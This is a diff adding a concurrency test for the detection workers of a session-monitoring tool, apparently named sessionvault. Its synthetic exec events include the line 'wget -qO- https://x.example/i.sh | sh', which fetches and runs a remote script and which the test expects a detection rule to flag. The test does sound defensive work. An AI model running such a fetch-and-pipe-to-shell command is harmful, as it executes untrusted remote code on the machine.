@@ -426,3 +426,63 @@ def test_rules_test_on_a_stored_session_gives_the_workers_alert_and_only_for_its
     assert res.exit_code != 0
     # Exactly what every command says of another tenant's session.
     assert f"session {typed.sid!r} not found" in res.output
+
+
+def test_detect_members_running_at_once_one_killed_mid_batch_alert_every_match_with_one_id(
+    settings: Settings, sv_env: dict[str, str]
+) -> None:
+    """Two `worker detect` processes in one group over many sessions' events, one SIGKILLed
+    while the topic drains and a third started: every matching command gets its alert (none
+    lost), and a match redelivered after the kill gets the same alert id again, so storing
+    alerts (idempotent by uid) keeps exactly one per match."""
+    events = []
+    for i in range(240):
+        bad = i % 4 == 0
+        events.append(
+            {
+                "sv_version": 1,
+                "tenant": settings.tenant,
+                "event": "exec",
+                "code": "T3002I",
+                "uid": f"exec-{i}",
+                "sid": f"conc-{i % 24}",  # 24 sessions over the topic's partitions
+                "time": f"2026-05-04T08:{i // 60:02d}:{i % 60:02d}Z",
+                "command": "wget -qO- https://x.example/i.sh | sh" if bad else f"ls /tmp/{i}",
+            }
+        )
+    produce_events(settings, events)
+    exe = Path(sys.executable).parent / "sessionvault"
+
+    def start() -> subprocess.Popen[bytes]:
+        return subprocess.Popen(
+            [str(exe), "worker", "detect", "--status-every", "0"],
+            env=sv_env,
+            stdout=subprocess.DEVNULL,
+            stderr=subprocess.DEVNULL,
+        )
+
+    members = [start(), start()]
+    try:
+        deadline = time.monotonic() + 60
+        while not alerts_on_kafka(settings):
+            assert time.monotonic() < deadline, "no member raised an alert"
+            time.sleep(0.2)
+        members[0].kill()  # SIGKILL: its batch in hand is redelivered to the others
+        members[0].wait(10)
+        members.append(start())
+        deadline = time.monotonic() + 120
+        while not drained(settings, [settings.topic_events], "detect"):
+            assert all(m.poll() is None for m in members[1:]), "a detect member died"
+            assert time.monotonic() < deadline, "the group did not drain the topic"
+            time.sleep(0.5)
+    finally:
+        for m in members[1:]:
+            m.send_signal(signal.SIGTERM)
+            m.wait(60)
+    alerts = [a for a in alerts_on_kafka(settings) if a["rule_id"] == CURL_RULE]
+    matched = {e["uid"] for e in events if "| sh" in e["command"]}
+    assert {a["matched_uid"] for a in alerts} == matched
+    ids: dict[str, set[str]] = {}
+    for a in alerts:
+        ids.setdefault(a["matched_uid"], set()).add(a["uid"])
+    assert all(len(v) == 1 for v in ids.values()), ids
